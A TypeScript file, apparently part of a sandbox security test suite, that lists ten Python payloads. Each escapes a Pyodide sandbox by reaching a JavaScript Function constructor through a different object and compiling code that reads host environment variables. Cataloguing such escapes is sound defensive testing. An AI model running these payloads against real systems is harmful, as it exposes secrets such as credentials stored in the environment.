import type { Attack } from "./attack.ts";

// Each compiles a function from text: what is hidden from Python is not hidden from that function.
const chain = (name: string, make: string): Attack => ({
  name: `compile JavaScript by the constructor of ${name}`,
  harm: "environment read",
  control: "plain",
  code: `
import pyodide_js
from pyodide.ffi import create_proxy, to_js, JsException
source = f"return process.env.{ENV_NAME}"
${make.trim()}`,
});

export const constructors: Attack[] = [
  chain("a function", "print(pyodide_js.runPython.constructor(source)())"),
  chain("an asynchronous function", "print(await pyodide_js.loadPackage.constructor(source)())"),
  chain("Object", "print(pyodide_js._module.constructor.constructor(source)())"),
  chain("a prototype", "print(pyodide_js.__proto__.constructor.constructor(source)())"),
  chain("a list that Python made", "print(to_js([1]).constructor.constructor(source)())"),
  chain("a promise", "print(pyodide_js._api.lockFilePromise.constructor.constructor(source)())"),
  chain("WebAssembly.Table", "print(pyodide_js._module.wasmTable.constructor.constructor(source)())"),
  chain("an exported WebAssembly function", "print(pyodide_js._module._malloc.constructor(source)())"),
  chain(
    "an error",
    `
try: pyodide_js.FS.readFile("/nowhere")
except JsException as error: print(error.js_error.constructor.constructor(source)())`,
  ),
  chain(
    "the timer that is `this` in a callback",
    `
import asyncio
made = asyncio.get_running_loop().create_future()
def on_time(this, *rest):
    try: made.set_result(this.constructor.constructor(source)())
    except BaseException as error: made.set_exception(error)
pyodide_js._api.scheduleCallback(create_proxy(on_time, capture_this=True), 20)
print(await made)`,
  ),
];
